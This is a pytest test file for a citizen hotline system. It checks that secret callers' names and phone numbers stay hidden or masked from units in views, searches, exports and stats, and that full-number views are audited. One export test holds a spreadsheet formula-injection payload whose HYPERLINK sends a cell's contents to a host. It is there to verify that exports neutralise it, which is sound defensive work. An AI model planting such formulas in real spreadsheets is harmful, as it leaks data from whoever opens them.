"""ORG-4: secrecy (保密来电人) and masking hold in every output a unit can reach; unmasked views are audited."""

from __future__ import annotations

import datetime as dt
from io import BytesIO

import pytest
from django.test import Client
from openpyxl import load_workbook

from hotline.cases.events import run_queued
from hotline.common.models import AuditLog, DictKind
from tests.cases.test_duplicates import CONTENT as DUP_CONTENT
from tests.cases.test_duplicates import SIMILAR
from tests.conftest import as_user, dict_item, dispatched_to, submitted_case

NAME, PHONE, EMAIL = "张三丰", "13912340001", "zsf@example.com"
MASKED = "139****0001"


def _secret(city, people, unit=None, **overrides):
    values = {
        "secrecy": dict_item(DictKind.SECRECY, "citizen"),
        "citizen_name": NAME,
        "citizen_phone": PHONE,
        "citizen_email": EMAIL,
        "citizen_address": "东湖区幸福社区12栋",
        **overrides,
    }
    return dispatched_to(city, people, unit or city.east, **values)


def _web(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _views(**filters) -> list[AuditLog]:
    return list(AuditLog.objects.filter(action="view", **filters))


def _xlsx_rows(response) -> list[tuple]:
    sheet = load_workbook(BytesIO(response.content)).active
    return list(sheet.iter_rows(values_only=True))


# --------------------------------------------------------------------------- the case


def test_case_detail_gives_a_unit_nothing_of_a_secret_caller(api, city, people):
    case = _secret(city, people)
    body = as_user(api, people.east).get(f"/api/v1/cases/{case.pk}/").json()
    assert body["citizen"] is None
    assert body["citizen_email"] == "" and body["citizen_name"] == "（保密）"
    assert (
        PHONE not in str(body)
        and MASKED not in str(body)
        and EMAIL not in str(body)
        and NAME not in str(body)
    )
    office = as_user(api, people.dispatcher).get(f"/api/v1/cases/{case.pk}/").json()
    assert office["citizen"] == case.citizen_id and office["citizen_email"] == EMAIL
    assert office["citizen_phone"] == PHONE and office["citizen_name"] == NAME


def test_case_page_and_list_hide_a_secret_caller_from_the_unit(api, city, people):
    case = _secret(city, people)
    dispatched_to(city, people, city.east, citizen_name=NAME, citizen_phone=PHONE)  # same caller, not secret
    page = _web(people.east).get(f"/cases/{case.pk}/").content.decode()
    assert NAME not in page and MASKED not in page and EMAIL not in page
    assert (
        "同一来电人的其他工单" not in page
    )  # the related list would name the caller through their other case
    rows = as_user(api, people.east).get("/api/v1/cases/").json()["results"]
    secret_row = next(r for r in rows if r["id"] == case.pk)
    assert secret_row["citizen_name"] == "（保密）" and secret_row["citizen_phone"] == "（保密）"


def test_search_by_caller_does_not_confirm_a_secret_caller(api, city, people):
    case = _secret(city, people)
    for params in ({"caller_phone": PHONE}, {"citizen": case.citizen_id}):
        ids = [r["id"] for r in as_user(api, people.east).get("/api/v1/cases/", params).json()["results"]]
        assert case.pk not in ids
        ids = [
            r["id"] for r in as_user(api, people.dispatcher).get("/api/v1/cases/", params).json()["results"]
        ]
        assert case.pk in ids


# --------------------------------------------------------------------------- the citizen's profile and history


def test_citizen_profile_and_history_of_a_secret_caller_are_404_for_the_unit(api, city, people):
    case = _secret(city, people)
    pk = case.citizen_id
    assert pk is not None
    for url in (
        f"/api/v1/citizens/{pk}/",
        f"/api/v1/citizens/{pk}/history/",
        f"/api/v1/citizens/{pk}/contacts/",
    ):
        assert as_user(api, people.east).get(url).status_code == 404, url
        assert as_user(api, people.dispatcher).get(url).status_code == 200, url
    assert _web(people.east).get(f"/citizens/{pk}/").status_code == 404
    assert _web(people.dispatcher).get(f"/citizens/{pk}/").status_code == 200
    assert not any(
        c["id"] == pk
        for c in as_user(api, people.east).get("/api/v1/citizens/", {"query": NAME}).json()["results"]
    )


def test_history_and_screen_pop_leave_out_the_secret_case(api, city, people):
    secret = _secret(city, people)
    open_case = dispatched_to(city, people, city.east, citizen_name=NAME, citizen_phone=PHONE)
    assert open_case.citizen_id == secret.citizen_id
    history = as_user(api, people.east).get(f"/api/v1/citizens/{secret.citizen_id}/history/").json()
    assert [e["ref"] for e in history] == [str(open_case.pk)]
    page = _web(people.east).get(f"/citizens/{secret.citizen_id}/").content.decode()
    assert f"/cases/{secret.pk}/" not in page
    pop = as_user(api, people.east).get("/api/v1/citizens/screen-pop/", {"number": PHONE}).json()
    assert [c["id"] for c in pop["recent_cases"]] == [open_case.pk] and pop["counts"]["total"] == 1


# --------------------------------------------------------------------------- duplicates and clusters


@pytest.mark.django_db(transaction=True)  # the duplicate index is written after the intake commits
def test_duplicates_do_not_confirm_a_guessed_name_or_number(api, city, people):
    _secret(
        city,
        people,
        content="东湖区梨园街道幸福社区门口的窨井盖缺失已经一周，夜里行人经过很危险，已有老人摔伤，多次向物业反映没有结果，请有关部门尽快派人补上井盖并设置警示标志。",
    )
    run_queued()  # the case-events job (the worker, every second) indexes the requests
    for params in ({"name": NAME}, {"phone": PHONE}):
        body = as_user(api, people.east).get("/api/v1/cases/duplicates/", params).json()
        assert body["counts"]["same_name"] == 0 and body["counts"]["same_phone"] == 0
        assert body["candidates"] == []
        office = as_user(api, people.dispatcher).get("/api/v1/cases/duplicates/", params).json()
        assert office["counts"]["same_name"] + office["counts"]["same_phone"] == 1


@pytest.mark.django_db(transaction=True)  # the duplicate index is written after the intake commits
def test_duplicate_candidates_by_content_hide_the_secret_caller(api, city, people):
    case = _secret(city, people, content=DUP_CONTENT)
    run_queued()  # the case-events job (the worker, every second) indexes the requests
    body = as_user(api, people.east).post("/api/v1/cases/duplicates/", {"content": SIMILAR}).json()
    candidate = next(c for c in body["candidates"] if c["id"] == case.pk)
    assert candidate["citizen_name"] == "（保密）" and candidate["citizen_phone"] == "（保密）"
    assert not candidate["same_name"]


@pytest.mark.django_db(transaction=True)  # the duplicate index is written after the intake commits
def test_duplicates_and_clusters_with_full_numbers_are_audited(api, city, people):
    for i, text in enumerate([DUP_CONTENT, SIMILAR, DUP_CONTENT + "今晚又吵到三点。"]):
        submitted_case(city, people, citizen_phone=f"1390000000{i}", content=text)
    run_queued()  # the case-events job (the worker, every second) indexes the requests
    before = len(_views(object_type="cases.case"))
    as_user(api, people.dispatcher).get("/api/v1/cases/duplicates/", {"phone": "13900000001"})
    as_user(api, people.dispatcher).get("/api/v1/cases/hot-clusters/", {"days": 7, "min_size": 3})
    rows = _views(object_type="cases.case")[: len(_views(object_type="cases.case")) - before]
    assert {r.summary.split("：")[0] for r in rows} == {"重复诉求筛查", "热点聚类"}
    assert all(r.actor == people.dispatcher for r in rows)
    cluster_row = next(r for r in rows if r.summary.startswith("热点聚类"))
    assert cluster_row.changes["rows"] == 3 and cluster_row.changes["filter"]["days"] == "7"


# --------------------------------------------------------------------------- lists, exports, supervision


def test_case_list_with_full_numbers_is_audited_and_masked_list_is_not(api, city, people):
    submitted_case(city, people, citizen_name=NAME, citizen_phone=PHONE)
    dispatched_to(city, people, city.east)
    as_user(api, people.dispatcher).get("/api/v1/cases/", {"keywords": "烧烤"})
    row = _views(object_type="cases.case", actor=people.dispatcher).pop()
    assert row.changes["filter"] == {"keywords": "烧烤"} and row.changes["rows"] == 2
    as_user(api, people.east).get("/api/v1/cases/")
    assert _views(object_type="cases.case", actor=people.east) == []


@pytest.mark.parametrize("who", ["east", "leader", "dispatcher"])
def test_case_export_is_masked_as_on_screen_and_audited(city, people, who):
    secret = _secret(city, people)
    plain = dispatched_to(city, people, city.east, citizen_name="李四光", citizen_phone="13912340002")
    user = getattr(people, who)
    response = _web(user).get("/cases/search/", {"export": "xlsx", "keywords": ""})
    assert response.status_code == 200
    rows = {r[0]: r for r in _xlsx_rows(response)[1:]}
    name, phone = rows[secret.number][6], rows[secret.number][7]
    if who == "east":  # the unit: the secret caller hidden, other numbers masked
        assert (name, phone) == ("（保密）", "（保密）")
        assert rows[plain.number][7] == "139****0002"
    elif who == "leader":  # a city leader may know the caller but sees numbers masked, as on screen
        assert name == NAME and phone == MASKED and rows[plain.number][7] == "139****0002"
    else:
        assert name == NAME and phone == PHONE
    audit = _views(object_type="cases.case", actor=user).pop()
    assert audit.changes["rows"] == 2 and audit.summary.startswith("导出工单")


def test_exports_neutralise_formulas(city, people):
    payload = '=HYPERLINK("http://127.0.0.1/x?"&A1,"点此")'
    case = submitted_case(city, people, title=payload, citizen_name="@SUM(1+1)", citizen_phone="13912340003")
    rows = _xlsx_rows(_web(people.dispatcher).get("/cases/search/", {"export": "xlsx"}))
    row = next(r for r in rows if r[0] == case.number)
    assert row[5] == "'" + payload and row[6] == "'@SUM(1+1)"
    sheet = load_workbook(
        BytesIO(_web(people.dispatcher).get("/cases/search/", {"export": "xlsx"}).content)
    ).active
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


def test_supervision_repeat_callers_masked_for_leaders_and_audited_in_full(api, city, people):
    for _ in range(2):
        submitted_case(city, people, citizen_phone=PHONE)
    today = dt.date.today().isoformat()
    leader = as_user(api, people.leader).get("/api/v1/supervision/quality/", {"from": today, "to": today})
    assert leader.status_code == 200, leader.content
    assert leader.json()["repeat_callers"] == [{"citizen_phone": MASKED, "n": 2}]
    page = _web(people.leader).get("/supervision/", {"tab": "quality"}).content.decode()
    assert PHONE not in page and MASKED in page
    assert _views(object_type="cases.case", actor=people.leader) == []
    monitor = as_user(api, people.monitor).get("/api/v1/supervision/quality/").json()
    assert monitor["repeat_callers"] == [{"citizen_phone": PHONE, "n": 2}]
    _web(people.monitor).get("/supervision/", {"tab": "quality"})
    assert len(_views(object_type="cases.case", actor=people.monitor)) == 2
    exported = _web(people.leader).get("/supervision/", {"export": "xlsx"})
    assert exported.status_code == 200
    sheet = load_workbook(BytesIO(exported.content))["重复来电"]
    assert [r for r in sheet.iter_rows(min_row=2, values_only=True)] == [(MASKED, 2)]
    assert _views(object_type="sla.supervision", actor=people.leader)[0].summary == "导出督办统计"


def test_supervision_does_not_count_a_secret_caller_for_a_unit_leader(api, city, people):
    for _ in range(2):
        _secret(city, people)
    body = as_user(api, people.east_leader).get("/api/v1/supervision/quality/").json()
    assert body["repeat_callers"] == []


def test_print_and_timeline_give_the_unit_nothing_of_a_secret_caller(api, city, people):
    case = _secret(city, people)
    printed = _web(people.east).get(f"/cases/{case.pk}/print/")
    assert printed.status_code == 200
    text = printed.content.decode()
    assert NAME not in text and PHONE not in text and MASKED not in text and "（保密）" in text
    assert _web(people.east).post(f"/cases/{case.pk}/reveal-phone/").status_code == 403
    timeline = as_user(api, people.east).get(f"/api/v1/cases/{case.pk}/timeline/").content.decode()
    assert NAME not in timeline and PHONE not in timeline and EMAIL not in timeline
    assert _web(people.west).get(f"/cases/{case.pk}/print/").status_code == 404


def test_co_requesters_with_full_numbers_are_audited(api, city, people):
    from hotline.cases.merge import case_merge

    target = submitted_case(city, people, citizen_phone="13912340005")
    merged = submitted_case(city, people, citizen_name=NAME, citizen_phone=PHONE)
    case_merge(case=merged, into=target, actor=people.dispatcher, expected_version=None)
    rows = as_user(api, people.dispatcher).get(f"/api/v1/cases/{target.pk}/co-requesters/").json()
    assert rows[0]["phone"] == PHONE
    audit = _views(object_type="cases.case", actor=people.dispatcher).pop()
    assert audit.summary.startswith("并单来电人") and audit.changes["rows"] == 1
